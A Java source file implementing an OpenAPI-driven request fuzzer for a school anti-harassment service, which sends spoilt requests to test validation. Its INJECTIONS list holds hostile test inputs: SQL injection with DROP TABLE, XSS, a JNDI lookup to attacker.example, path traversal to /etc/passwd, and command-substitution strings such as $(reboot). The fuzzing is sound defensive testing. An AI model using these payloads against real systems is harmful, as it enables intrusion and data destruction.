package fr.antiharcelement.infra.testing.fuzz;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import fr.antiharcelement.infra.testing.OpenApiDocument;
import fr.antiharcelement.infra.testing.OpenApiDocument.Operation;
import fr.antiharcelement.infra.testing.OpenApiDocument.Parameter;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.RandomGenerator;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.Collections;
import java.util.IdentityHashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.UUID;
import java.util.function.Function;

/**
 * Generates requests from a service's OpenAPI document: a valid request for a random operation (its schema's
 * types, enums, formats, bounds and patterns, plus the values the test knows to be valid right now), then, most
 * of the time, one thing spoiled: a field missing, unknown, of the wrong type, empty, too long, in odd Unicode,
 * an injection string, an extreme number, malformed JSON, a wrong content type, a body over the limit, a bad
 * parameter or header. jqwik's generators supply the random strings and numbers, with their edge cases.
 */
final class RequestGenerator {

    private static final int GENERATION_SIZE = 1000;
    private static final int VALID_PERCENT = 30;
    private static final String JSON = "application/json";
    private static final ZoneId PARIS = ZoneId.of("Europe/Paris");

    private static final Arbitrary<String> PLAIN_TEXT = Arbitraries.strings().alpha().numeric().withChars(" éèàçôÉ'-")
            .ofMinLength(1).ofMaxLength(30).filter(text -> !text.isBlank());
    private static final Arbitrary<String> ANY_UNICODE = Arbitraries.strings()
            .withCharRange('\u0001', '\uD7FF').withCharRange('\uE000', '\uFFFD').ofMinLength(1).ofMaxLength(40);
    private static final Arbitrary<String> ODD_UNICODE = Arbitraries.of(
            "e\u0301\u0302\u0303\u0304\u0305\u0306", "Z\u0334\u0321\u0322\u034e\u0344a\u0338\u031b", "\u202Eevil\u202C.csv",
            "مدرسة الأمل", "בית ספר", "🏫👩‍🏫🧒🏽", "\u200B\u200C\u200D\u2060", "\uFEFFbom", "line\u2028break\u2029",
            "ｆｕｌｌｗｉｄｔｈ", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "\u0007\u001B[31mred", "Ǆemal Ⅻ ﬁ", "İstanbul ß");
    private static final Arbitrary<String> INJECTIONS = Arbitraries.of(
            "' OR '1'='1", "'; DROP TABLE school; --", "\" OR 1=1 --", "1; SELECT pg_sleep(5)", "' UNION SELECT 1,2,3 --",
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "${jndi:ldap://attacker.example/a}", "{{7*7}}",
            "#{7*7}", "../../../../etc/passwd", "%00", "%s%n%x", "\\", "admin'--", "$(reboot)", "`id`", "*)(uid=*))(|(uid=*");
    private static final Arbitrary<String> EXTREME_NUMBERS = Arbitraries.oneOf(
            Arbitraries.of("2147483648", "-2147483649", "9223372036854775808", "-9223372036854775809", "1e309", "-1e309",
                    "123456789012345678901234567890", "1.5", "-0", "0.0000001", "1E2", "-1", "4.9e-324"),
            Arbitraries.bigIntegers().between(BigInteger.TEN.pow(30).negate(), BigInteger.TEN.pow(30)).map(BigInteger::toString));
    private static final List<String> FOREIGN_CONTENT_TYPES = List.of(
            "text/plain", "application/xml", "text/html", "application/x-www-form-urlencoded", "application/yaml", "text/csv",
            JSON, "image/png");

    private final FuzzTarget target;
    private final OpenApiDocument document;
    private final List<Operation> operations;
    private final Random random;
    private final ObjectMapper mapper = new ObjectMapper();
    private final Map<Arbitrary<?>, RandomGenerator<?>> generators = new IdentityHashMap<>();
    private final List<Function<Draft, Optional<FuzzRequest>>> spoilers = List.of(
            this::missingRequiredField, this::nullRequiredField, this::unknownField, this::wrongType, this::emptyString,
            this::overlongString, this::oddUnicode, this::unstorableText, this::injection, this::extremeNumber,
            this::malformedJson, this::garbledRawBody, this::wrongContentType, this::oversizedBody, this::badQueryParameter,
            this::unknownQueryParameter, this::badPathParameter, this::badHeader);

    RequestGenerator(FuzzTarget target, Random random) {
        this.target = target;
        this.document = target.document;
        this.random = random;
        this.operations = document.operations().stream()
                .filter(operation -> !target.excludedOperations().contains(operation.key())).toList();
    }

    List<Operation> operations() {
        return operations;
    }

    FuzzRequest next() {
        Draft draft = valid(operations.get(random.nextInt(operations.size())));
        if (random.nextInt(100) < VALID_PERCENT) {
            return draft.build(FuzzRequest.VALID, false);
        }
        List<Function<Draft, Optional<FuzzRequest>>> order = new ArrayList<>(spoilers);
        Collections.shuffle(order, random);
        for (Function<Draft, Optional<FuzzRequest>> spoiler : order) {
            Optional<FuzzRequest> spoilt = spoiler.apply(draft);
            if (spoilt.isPresent()) {
                return spoilt.get();
            }
        }
        return draft.build(FuzzRequest.VALID, false);
    }

    // ---------------------------------------------------------------- valid requests

    private Draft valid(Operation operation) {
        Draft draft = new Draft(operation);
        for (Parameter parameter : operation.parameters()) {
            Object known = target.validValues.apply(operation, parameter.name());
            boolean sent = known != null || parameter.required() || "path".equals(parameter.in());
            if (!sent && "query".equals(parameter.in()) && random.nextBoolean()) {
                sent = true;
            }
            if (!sent && "Idempotency-Key".equals(parameter.name()) && random.nextBoolean()) {
                known = UUID.randomUUID().toString();
                sent = true;
            }
            if (sent) {
                String value = known != null ? String.valueOf(known) : text(validValue(parameter.schema(), parameter.name(), operation));
                draft.parameters(parameter.in()).put(parameter.name(), value);
            }
        }
        if (operation.hasJsonBody()) {
            draft.contentType = JSON;
            draft.json = validValue(operation.bodies().get(JSON), "body", operation);
        } else if (!operation.bodies().isEmpty()) {
            draft.contentType = operation.bodies().keySet().iterator().next();
            draft.raw = target.validRawBodies.apply(operation);
        }
        return draft;
    }

    private JsonNode validValue(JsonNode declared, String name, Operation operation) {
        Object known = target.validValues.apply(operation, name);
        if (known != null) {
            return mapper.valueToTree(known);
        }
        JsonNode schema = document.resolve(declared);
        if (schema == null || schema.isMissingNode()) {
            return JsonNodeFactory.instance.textNode(draw(PLAIN_TEXT));
        }
        if (schema.has("enum")) {
            JsonNode values = schema.get("enum");
            return values.get(random.nextInt(values.size()));
        }
        switch (typeOf(schema)) {
            case "object" -> {
                ObjectNode object = JsonNodeFactory.instance.objectNode();
                for (Field field : fields(schema)) {
                    if (field.required() || random.nextBoolean()) {
                        object.set(field.name(), validValue(field.schema(), field.name(), operation));
                    }
                }
                return object;
            }
            case "array" -> {
                ArrayNode array = JsonNodeFactory.instance.arrayNode();
                for (int i = random.nextInt(3); i > 0; i--) {
                    array.add(validValue(schema.path("items"), name, operation));
                }
                return array;
            }
            case "integer" -> {
                long min = schema.path("minimum").asLong(0);
                long max = Math.min(schema.path("maximum").asLong(1000), min + 1000);
                return JsonNodeFactory.instance.numberNode(min + random.nextLong(max - min + 1));
            }
            case "number" -> {
                return JsonNodeFactory.instance.numberNode(random.nextDouble() * 100);
            }
            case "boolean" -> {
                return JsonNodeFactory.instance.booleanNode(random.nextBoolean());
            }
            default -> {
                return JsonNodeFactory.instance.textNode(validText(schema));
            }
        }
    }

    /** A string of the school year 2021-2022 for dates, a UUID, an example, or one matching the pattern. */
    private String validText(JsonNode schema) {
        LocalDate day = LocalDate.of(2021, 9, 1).plusDays(random.nextInt(300));
        switch (schema.path("format").asText()) {
            case "date":
                return day.toString();
            case "date-time":
                return day.atTime(8 + random.nextInt(10), 15 * random.nextInt(4)).atZone(PARIS).toOffsetDateTime().toString();
            case "uuid":
                return UUID.randomUUID().toString();
            default:
                break;
        }
        if (schema.path("examples").isArray() && random.nextBoolean()) {
            return schema.path("examples").get(0).asText();
        }
        int maxLength = schema.path("maxLength").asInt(30);
        return Optional.ofNullable(schema.path("pattern").textValue())
                .flatMap(pattern -> PatternStrings.matching(pattern, random))
                .filter(text -> text.length() <= maxLength)
                .orElseGet(() -> {
                    String text = draw(PLAIN_TEXT);
                    return text.substring(0, Math.min(text.length(), maxLength));
                });
    }

    // ---------------------------------------------------------------- spoilt bodies

    private Optional<FuzzRequest> missingRequiredField(Draft draft) {
        return pickField(draft, field -> field.required() && draft.has(field)).map(field -> {
            draft.remove(field);
            return draft.build("missing required " + field.path(), true);
        });
    }

    private Optional<FuzzRequest> nullRequiredField(Draft draft) {
        return pickField(draft, field -> field.required() && draft.canSet(field)).map(field -> {
            draft.set(field, JsonNodeFactory.instance.nullNode());
            return draft.build("null in required " + field.path(), true);
        });
    }

    private Optional<FuzzRequest> unknownField(Draft draft) {
        if (!(draft.json instanceof ObjectNode root)) {
            return Optional.empty();
        }
        List<ObjectNode> objects = new ArrayList<>();
        collectObjects(root, objects);
        ObjectNode object = objects.get(random.nextInt(objects.size()));
        String name = "unexpected" + draw(Arbitraries.strings().alpha().ofMaxLength(8));
        object.set(name, random.nextBoolean() ? JsonNodeFactory.instance.textNode(draw(ANY_UNICODE))
                : JsonNodeFactory.instance.numberNode(random.nextInt()));
        return Optional.of(draft.build("unknown field " + name, true));
    }

    private Optional<FuzzRequest> wrongType(Draft draft) {
        return pickField(draft, draft::canSet).map(field -> {
            String type = typeOf(field.resolved());
            JsonNode replacement = switch (type) {
                case "object" -> random.nextBoolean() ? JsonNodeFactory.instance.textNode("an object?")
                        : JsonNodeFactory.instance.arrayNode().add(1);
                case "integer", "number" -> random.nextBoolean() ? JsonNodeFactory.instance.textNode("twelve")
                        : JsonNodeFactory.instance.objectNode().put("value", 12);
                default -> random.nextBoolean() ? JsonNodeFactory.instance.objectNode().put("text", "x")
                        : JsonNodeFactory.instance.arrayNode().add("x").add("y");
            };
            draft.set(field, replacement);
            return draft.build("wrong type " + replacement.getNodeType() + " for " + type + " " + field.path(), true);
        });
    }

    private Optional<FuzzRequest> emptyString(Draft draft) {
        return pickStringField(draft).map(field -> {
            String empty = draw(Arbitraries.of("", " ", "   ", "\t\n", "\u00A0"));
            draft.set(field, JsonNodeFactory.instance.textNode(empty));
            boolean notBlank = "\\S".equals(field.resolved().path("pattern").asText());
            // Bean Validation's @NotBlank trims characters up to U+0020 only: a no-break space is not blank to it.
            boolean blank = empty.isEmpty() || (notBlank && empty.trim().isEmpty());
            return draft.build("empty string in " + field.path(), field.required() && blank);
        });
    }

    private Optional<FuzzRequest> overlongString(Draft draft) {
        return pickStringField(draft).map(field -> {
            int maxLength = field.resolved().path("maxLength").asInt(-1);
            int length = maxLength > 0 && random.nextBoolean() ? maxLength + 1 + random.nextInt(50) : 2_000 + random.nextInt(18_000);
            draft.set(field, JsonNodeFactory.instance.textNode(repeat(draw(PLAIN_TEXT), length)));
            return draft.build(length + " characters in " + field.path(), maxLength > 0);
        });
    }

    private Optional<FuzzRequest> oddUnicode(Draft draft) {
        return pickStringField(draft).map(field -> {
            draft.set(field, JsonNodeFactory.instance.textNode(random.nextBoolean() ? draw(ODD_UNICODE) : draw(ANY_UNICODE)));
            return draft.build("odd Unicode in " + field.path(), false);
        });
    }

    /** NUL and a lone surrogate (escaped in the JSON text): no text column can store them, so they must be refused. */
    private Optional<FuzzRequest> unstorableText(Draft draft) {
        return pickStringField(draft).map(field -> {
            boolean nul = random.nextBoolean();
            draft.setRaw(field, nul ? "\"Coll\\u0000ege\"" : "\"Coll\\ud800ege\"");
            return draft.build((nul ? "NUL" : "lone surrogate") + " in " + field.path(), true);
        });
    }

    private Optional<FuzzRequest> injection(Draft draft) {
        return pickStringField(draft).map(field -> {
            draft.set(field, JsonNodeFactory.instance.textNode(draw(INJECTIONS)));
            return draft.build("injection in " + field.path(), false);
        });
    }

    private Optional<FuzzRequest> extremeNumber(Draft draft) {
        return pickField(draft, field -> draft.canSet(field) && typeOf(field.resolved()).equals("integer")).map(field -> {
            String number = draw(EXTREME_NUMBERS);
            draft.setRaw(field, number);
            BigDecimal value = new BigDecimal(number);
            boolean outOfRange = value.compareTo(BigDecimal.valueOf(field.resolved().path("minimum").asLong(Integer.MIN_VALUE))) < 0
                    || value.compareTo(BigDecimal.valueOf(field.resolved().path("maximum").asLong(Integer.MAX_VALUE))) > 0;
            return draft.build("number " + number + " in " + field.path(), outOfRange);
        });
    }

    private Optional<FuzzRequest> malformedJson(Draft draft) {
        if (draft.json == null) {
            return Optional.empty();
        }
        String valid = draft.jsonText();
        int kind = random.nextInt(12);
        String variant;
        byte[] body;
        boolean rejected = true;
        switch (kind) {
            case 0 -> {
                variant = "truncated JSON";
                body = utf8(valid.substring(0, 1 + random.nextInt(valid.length() - 1)));
            }
            case 1 -> {
                variant = "single-quoted JSON";
                body = utf8(valid.replace('"', '\''));
            }
            case 2 -> {
                variant = "JSON with a comment";
                body = utf8("/* hello */" + valid);
            }
            case 3 -> {
                variant = "JSON with a trailing comma";
                body = utf8(valid.substring(0, valid.length() - 1) + ",}");
            }
            case 4 -> {
                variant = "empty body";
                body = new byte[0];
            }
            case 5 -> {
                String scalar = draw(Arbitraries.of("null", "[]", "42", "\"text\"", "true", "[{}]"));
                variant = "JSON " + scalar + " instead of an object";
                body = utf8(scalar);
            }
            case 6 -> {
                int depth = 2_000 + random.nextInt(3_000);
                variant = "JSON nested " + depth + " deep";
                body = utf8("[".repeat(depth) + "]".repeat(depth));
            }
            case 7 -> {
                variant = "a number of 1,500 digits";
                body = utf8("{\"n\":" + "9".repeat(1_500) + "}");
            }
            case 8 -> {
                variant = "invalid UTF-8";
                ByteArrayOutputStream bytes = new ByteArrayOutputStream();
                byte[] text = utf8(valid);
                int cut = valid.indexOf('"', 1) + 1;
                bytes.write(text, 0, Math.max(cut, 1));
                bytes.write(new byte[]{(byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE}, 0, 4);
                bytes.write(text, Math.max(cut, 1), text.length - Math.max(cut, 1));
                body = bytes.toByteArray();
            }
            case 9 -> {
                variant = "random bytes";
                body = new byte[1 + random.nextInt(2_000)];
                random.nextBytes(body);
            }
            case 10 -> {
                variant = "garbage after the JSON";
                body = utf8(valid + " {\"again\": true}");
                rejected = false;
            }
            default -> {
                variant = "unquoted field names";
                body = utf8(valid.replaceAll("\"(\\w+)\":", "$1:"));
                rejected = valid.contains("\":");
            }
        }
        draft.json = null;
        draft.raw = body;
        return Optional.of(draft.build(variant, rejected));
    }

    /** For bodies that are not JSON (a CSV file): bytes that are not what the operation expects. */
    private Optional<FuzzRequest> garbledRawBody(Draft draft) {
        if (draft.raw == null || draft.json != null) {
            return Optional.empty();
        }
        String valid = new String(draft.raw, StandardCharsets.UTF_8);
        int kind = random.nextInt(6);
        byte[] body = switch (kind) {
            case 0 -> new byte[0];
            case 1 -> utf8(valid.lines().findFirst().orElse(""));
            case 2 -> utf8(valid + "\"unbalanced;quote\n" + draw(ANY_UNICODE));
            case 3 -> utf8(valid.replace("Collège", "Coll\u0000ège"));
            case 4 -> utf8(valid + draw(ODD_UNICODE) + ";" + draw(INJECTIONS) + "\n");
            default -> {
                byte[] bytes = new byte[1 + random.nextInt(4_000)];
                random.nextBytes(bytes);
                yield bytes;
            }
        };
        String[] variants = {"empty file", "header only", "unbalanced quote", "NUL in a field", "odd row", "random bytes"};
        draft.raw = body;
        return Optional.of(draft.build(variants[kind], kind == 0));
    }

    private Optional<FuzzRequest> wrongContentType(Draft draft) {
        if (draft.contentType == null) {
            return Optional.empty();
        }
        List<String> foreign = FOREIGN_CONTENT_TYPES.stream().filter(type -> !draft.operation.bodies().containsKey(type)).toList();
        draft.contentType = foreign.get(random.nextInt(foreign.size()));
        return Optional.of(draft.build("content type " + draft.contentType, true));
    }

    /** A body just over the limit; JSON padded with spaces so that it would be valid if it were accepted. */
    private Optional<FuzzRequest> oversizedBody(Draft draft) {
        long limit = target.bodyLimits.apply(draft.operation);
        if (draft.contentType == null || limit > 4L * 1024 * 1024) {
            return Optional.empty();
        }
        byte[] start = draft.json != null ? utf8(draft.jsonText()) : draft.raw;
        int size = (int) limit + 1 + random.nextInt(4_096);
        byte[] body = new byte[Math.max(size, start.length)];
        java.util.Arrays.fill(body, (byte) ' ');
        System.arraycopy(start, 0, body, 0, start.length);
        draft.json = null;
        draft.raw = body;
        return Optional.of(draft.build("body of " + body.length + " bytes, over the limit of " + limit, true));
    }

    // ---------------------------------------------------------------- spoilt parameters and headers

    private Optional<FuzzRequest> badQueryParameter(Draft draft) {
        List<Parameter> query = draft.operation.parameters("query");
        if (query.isEmpty()) {
            return Optional.empty();
        }
        Parameter parameter = query.get(random.nextInt(query.size()));
        JsonNode schema = document.resolve(parameter.schema());
        String value;
        boolean rejected;
        if (schema.has("enum")) {
            value = draw(Arbitraries.of("CASTLE", "open;", "ÉCOLE", "0", draw(INJECTIONS)));
            rejected = true;
        } else if (typeOf(schema).equals("integer")) {
            value = draw(Arbitraries.oneOf(EXTREME_NUMBERS, Arbitraries.of("abc", "0x10", "1e3", "NaN", "12abc")));
            rejected = isOutOfRange(value, schema);
        } else if (schema.has("maxLength") && random.nextBoolean()) {
            value = repeat("a", schema.get("maxLength").asInt() + 1 + random.nextInt(300));
            rejected = true;
        } else if (random.nextInt(4) == 0) {
            value = "Coll\u0000ege";
            rejected = true;
        } else {
            value = draw(Arbitraries.oneOf(INJECTIONS, ODD_UNICODE, ANY_UNICODE));
            rejected = false;
        }
        draft.query.put(parameter.name(), value);
        return Optional.of(draft.build("query " + parameter.name() + "=" + FuzzRequest.shorten(value), rejected));
    }

    private Optional<FuzzRequest> unknownQueryParameter(Draft draft) {
        draft.query.put("unexpected", draw(ANY_UNICODE));
        return Optional.of(draft.build("unknown query parameter", false));
    }

    private Optional<FuzzRequest> badPathParameter(Draft draft) {
        if (draft.path.isEmpty()) {
            return Optional.empty();
        }
        String name = new ArrayList<>(draft.path.keySet()).get(random.nextInt(draft.path.size()));
        String value = draw(Arbitraries.oneOf(INJECTIONS, ODD_UNICODE, ANY_UNICODE,
                Arbitraries.of("..", "%2F", "a/b", "null", "-1", "0", "Coll\u0000ege", repeat("9", 1_500),
                        "00000000-0000-0000-0000-000000000000")));
        draft.path.put(name, value);
        return Optional.of(draft.build("path " + name + "=" + FuzzRequest.shorten(value), false));
    }

    private Optional<FuzzRequest> badHeader(Draft draft) {
        List<String> names = draft.operation.parameters("header").stream().map(Parameter::name).toList();
        if (names.isEmpty()) {
            return Optional.empty();
        }
        String name = names.get(random.nextInt(names.size()));
        if (name.equalsIgnoreCase("If-Match")) {
            String value = draw(Arbitraries.of("abc", "\"\"", "W/", "\"99999999999999999999\"", "\"-5\"", "\"1\", \"2\"", "' OR 1=1"));
            draft.headers.put(name, value);
            return Optional.of(draft.build("If-Match: " + value, true));
        }
        if (name.equalsIgnoreCase("Idempotency-Key")) {
            boolean tooLong = random.nextBoolean();
            String value = tooLong ? repeat(draw(PLAIN_TEXT).replaceAll("[^A-Za-z0-9]", "k") + "k", 201 + random.nextInt(800))
                    : draw(Arbitraries.of("' OR '1'='1", "../../etc/passwd", "%00", "{}", "k"));
            draft.headers.put(name, value);
            return Optional.of(draft.build("Idempotency-Key of " + value.length() + " characters", tooLong));
        }
        return Optional.empty();
    }

    // ---------------------------------------------------------------- the body's fields

    /** A field of a body schema: its path from the root, its schema and whether its object requires it. */
    record Field(List<String> path, String name, JsonNode schema, JsonNode resolved, boolean required) {
    }

    private List<Field> fields(JsonNode objectSchema) {
        List<Field> fields = new ArrayList<>();
        List<String> required = new ArrayList<>();
        objectSchema.path("required").forEach(name -> required.add(name.asText()));
        objectSchema.path("properties").fields().forEachRemaining(property -> fields.add(new Field(List.of(property.getKey()),
                property.getKey(), property.getValue(), document.resolve(property.getValue()), required.contains(property.getKey()))));
        return fields;
    }

    /** Every field of the draft's body schema, nested objects' fields included. */
    private List<Field> allFields(Draft draft) {
        if (draft.json == null) {
            return List.of();
        }
        List<Field> all = new ArrayList<>();
        collectFields(document.resolve(draft.operation.bodies().get(JSON)), List.of(), all);
        return all;
    }

    private void collectFields(JsonNode objectSchema, List<String> prefix, List<Field> all) {
        for (Field field : fields(objectSchema)) {
            List<String> path = new ArrayList<>(prefix);
            path.add(field.name());
            all.add(new Field(List.copyOf(path), field.name(), field.schema(), field.resolved(), field.required()));
            if (typeOf(field.resolved()).equals("object")) {
                collectFields(field.resolved(), path, all);
            }
        }
    }

    private Optional<Field> pickField(Draft draft, java.util.function.Predicate<Field> usable) {
        List<Field> candidates = allFields(draft).stream().filter(usable).toList();
        return candidates.isEmpty() ? Optional.empty() : Optional.of(candidates.get(random.nextInt(candidates.size())));
    }

    private Optional<Field> pickStringField(Draft draft) {
        return pickField(draft, field -> draft.canSet(field) && typeOf(field.resolved()).equals("string"));
    }

    private static void collectObjects(ObjectNode object, List<ObjectNode> objects) {
        objects.add(object);
        object.elements().forEachRemaining(child -> {
            if (child instanceof ObjectNode nested) {
                collectObjects(nested, objects);
            }
        });
    }

    private static String typeOf(JsonNode schema) {
        if (schema.has("type")) {
            return schema.get("type").asText();
        }
        return schema.has("properties") ? "object" : "string";
    }

    private static boolean isOutOfRange(String value, JsonNode schema) {
        try {
            BigDecimal number = new BigDecimal(value);
            return (schema.has("minimum") && number.compareTo(schema.get("minimum").decimalValue()) < 0)
                    || (schema.has("maximum") && number.compareTo(schema.get("maximum").decimalValue()) > 0);
        } catch (NumberFormatException notANumber) {
            return true;
        }
    }

    @SuppressWarnings("unchecked")
    private <T> T draw(Arbitrary<T> arbitrary) {
        RandomGenerator<T> generator = (RandomGenerator<T>) generators.computeIfAbsent(arbitrary,
                key -> key.generator(GENERATION_SIZE, true));
        return generator.next(random).value();
    }

    private static String repeat(String text, int length) {
        StringBuilder repeated = new StringBuilder(length);
        while (repeated.length() < length) {
            repeated.append(text);
        }
        return repeated.substring(0, length);
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static String text(JsonNode value) {
        return value.isTextual() ? value.asText() : value.toString();
    }

    // ---------------------------------------------------------------- a request being built

    private final class Draft {

        final Operation operation;
        final Map<String, String> path = new LinkedHashMap<>();
        final Map<String, String> query = new LinkedHashMap<>();
        final Map<String, String> headers = new LinkedHashMap<>();
        /** JSON text put verbatim in place of placeholders: what Jackson would not write (NUL, a lone surrogate, 1e309). */
        final List<String> rawValues = new ArrayList<>();
        JsonNode json;
        byte[] raw;
        String contentType;

        Draft(Operation operation) {
            this.operation = operation;
        }

        Map<String, String> parameters(String in) {
            return switch (in) {
                case "path" -> path;
                case "query" -> query;
                default -> headers;
            };
        }

        boolean has(Field field) {
            JsonNode parent = parentOf(field);
            return parent != null && parent.has(field.name());
        }

        boolean canSet(Field field) {
            return parentOf(field) != null;
        }

        void remove(Field field) {
            ((ObjectNode) parentOf(field)).remove(field.name());
        }

        void set(Field field, JsonNode value) {
            ((ObjectNode) parentOf(field)).set(field.name(), value);
        }

        void setRaw(Field field, String jsonText) {
            set(field, JsonNodeFactory.instance.textNode(placeholder(rawValues.size())));
            rawValues.add(jsonText);
        }

        String jsonText() {
            try {
                String text = mapper.writeValueAsString(json);
                for (int i = 0; i < rawValues.size(); i++) {
                    text = text.replace("\"" + placeholder(i) + "\"", rawValues.get(i));
                }
                return text;
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }

        FuzzRequest build(String variant, boolean mustBeRejected) {
            List<String> sent = new ArrayList<>(path.values());
            sent.addAll(query.values());
            sent.addAll(headers.values());
            byte[] body = raw;
            if (json != null) {
                collectTexts(json, sent);
                body = utf8(jsonText());
            }
            return new FuzzRequest(operation, variant, mustBeRejected, Map.copyOf(path), Map.copyOf(query), Map.copyOf(headers),
                    contentType, body, sent);
        }

        private JsonNode parentOf(Field field) {
            JsonNode node = json;
            for (String step : field.path().subList(0, field.path().size() - 1)) {
                node = node == null ? null : node.get(step);
            }
            return node instanceof ObjectNode ? node : null;
        }

        private void collectTexts(JsonNode node, List<String> texts) {
            if (node.isTextual()) {
                texts.add(node.asText());
            }
            node.elements().forEachRemaining(child -> collectTexts(child, texts));
        }

    }

    private static String placeholder(int index) {
        return "\u2983raw" + index + "\u2984";
    }
}
